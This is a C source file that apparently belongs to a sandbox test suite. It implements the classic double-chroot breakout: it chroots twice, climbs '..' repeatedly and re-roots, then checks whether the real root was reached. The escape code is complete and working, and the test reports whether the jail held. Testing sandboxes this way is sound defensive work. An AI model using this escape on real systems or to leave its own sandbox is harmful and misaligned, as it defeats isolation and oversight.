// The classic double-chroot breakout. Jailed in argv[1] by a first chroot, the process chroots
// again into a subdirectory without entering it: its working directory is now outside its root,
// so ".." climbs past the jail to the real root, and chroot(".") makes that its root again.
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char** argv) {
    struct stat real_root;
    if (stat("/", &real_root) != 0) {
        return attack_broken("double_chroot", "stat /");
    }
    if (chdir(argc > 1 ? argv[1] : "/tmp") != 0) {
        return attack_broken("double_chroot", "chdir");
    }
    if (syscall(SYS_chroot, ".") != 0) {
        return attack_failed("double_chroot", errno);
    }
    mkdir("inner", 0700);
    if (syscall(SYS_chroot, "inner") != 0) {
        return attack_failed("double_chroot", errno);
    }
    for (int i = 0; i < 64; ++i) {
        (void)!chdir("..");
    }
    struct stat root;
    if (syscall(SYS_chroot, ".") != 0 || stat("/", &root) != 0) {
        return attack_failed("double_chroot", errno);
    }
    if (root.st_dev != real_root.st_dev || root.st_ino != real_root.st_ino) {
        return attack_report("double_chroot", "DENIED", ATTACK_DENIED, "still jailed");
    }
    return attack_succeeded("double_chroot", "escaped a chroot back to the real root");
}
